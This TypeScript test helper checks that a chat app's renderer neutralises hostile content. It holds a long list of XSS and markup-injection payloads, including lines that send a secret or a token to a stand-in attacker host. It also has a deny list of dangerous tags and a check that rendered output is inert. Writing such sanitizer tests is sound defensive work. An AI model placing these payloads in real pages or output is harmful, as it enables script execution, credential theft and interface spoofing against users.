import { expect } from 'vitest'

/** What a page, a file, a skill or a model may hold to get at whoever reads it. Each sets `window.hit` where it can. */
export const HOSTILE = [
  '<script>window.hit=1</script>',
  '<img src=x onerror=window.hit=1>',
  '<svg onload=window.hit=1><script>window.hit=1</script></svg>',
  '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  '<iframe src="javascript:window.hit=1"></iframe>',
  '<iframe srcdoc="<script>window.hit=1</script>"></iframe>',
  '<object data="javascript:window.hit=1"></object><embed src="javascript:window.hit=1">',
  '<a href="javascript:window.hit=1">x</a>',
  '<a href="JaVaScRiPt:window.hit=1">x</a>',
  '<a href=" &#106;avascript:window.hit=1">x</a>',
  '<a href="java\tscript:window.hit=1">x</a>',
  '<a href="data:text/html,<script>window.hit=1</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="/api/auth/logout">x</a>',
  '<a href="//evil.example/x">x</a>',
  '[x](javascript:window.hit=1)',
  '[x](  javascript:window.hit=1 "t")',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '![x](javascript:window.hit=1)',
  '![x](https://evil.example/?leak=secret)',
  '<javascript:window.hit=1>',
  '[x]: javascript:window.hit=1\n\n[x]',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0;background:red">x</p>',
  '<div class="fixed inset-0 bg-raised">pretend to be the app</div>',
  '<code class="language-x fixed inset-0">x</code>',
  '<form action="https://evil.example"><input name=token><button>Sign in</button></form>',
  '<input type="image" src=x onerror=window.hit=1>',
  '<input type="text" autofocus onfocus=window.hit=1>',
  '<details open ontoggle=window.hit=1><summary>x</summary></details>',
  '<video><source onerror=window.hit=1></video><audio src=x onerror=window.hit=1>',
  '<body onload=window.hit=1>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<template><script>window.hit=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>',
  '<a id=root name=getElementById href="https://ok.example">clobber</a>',
  '<span data-message="x" aria-label="Send" role="button" tabindex="0" contenteditable>x</span>',
  '```html\n<script>window.hit=1</script>\n```',
  '```"><img src=x onerror=window.hit=1>\nx\n```',
  '$\\href{javascript:window.hit=1}{x}$',
  '$$\\htmlStyle{position:fixed}{x}$$',
  '| a |\n|---|\n| <img src=x onerror=window.hit=1> |',
  '`<img src=x onerror=window.hit=1>`',
  '\u202ejavascript:window.hit=1',
  '"><script>window.hit=1</script>',
  "'-window.hit=1-'",
  '</script><script>window.hit=1</script>',
  '</textarea><img src=x onerror=window.hit=1>',
  '</pre></code><svg/onload=window.hit=1>',
  '<img src="x` `<script>window.hit=1</script>"` `>',
  '<scr<script>ipt>window.hit=1</scr</script>ipt>',
  '<<script>window.hit=1//<</script>',
  '<x onclick=window.hit=1 tabindex=1 autofocus onfocus=window.hit=1>x</x>',
  '<button formaction="javascript:window.hit=1">Allow</button>',
  '{{constructor.constructor("window.hit=1")()}}',
  '${window.hit=1}',
  'javascript:window.hit=1',
  '[Allow](#/tools "Luna asks")',
  '`</code><iframe src=javascript:window.hit=1>`',
  '\u202etxt.exe\u2066 <img src=x onerror=window.hit=1>',
  '\u0000<script>window.hit=1</script>',
  '[WIDGET:{"type":"interactive","data":"<script>parent.hit=1</script>"}]',
]

const FORBIDDEN = 'script, iframe, object, embed, style, link, meta, base, form, img, video, audio, source, template, noscript, [srcdoc], [contenteditable], [formaction]'

/** Whether nothing of what was drawn can act by itself or lead out of the app unasked. */
export function checkInert(host: ParentNode): void {
  expect(host.querySelector(FORBIDDEN)?.outerHTML ?? null).toBeNull()
  for (const element of host.querySelectorAll('*')) {
    for (const { name } of element.attributes) expect(name).not.toMatch(/^on/)
    const href = element.getAttribute('href')
    if (href !== null) expect(href).toMatch(/^(?:https?:\/\/|mailto:|#\/)/)
    if (href?.startsWith('http')) expect(element.getAttribute('rel')).toBe('noopener noreferrer')
  }
  expect((window as { hit?: unknown }).hit).toBeUndefined()
}

/** The text in pieces that end inside of tags and entities. */
export function inChunks(text: string): string[] {
  return text.match(/[^<>"=&]*[<>"=&]?/g)?.filter((piece) => piece !== '') ?? []
}
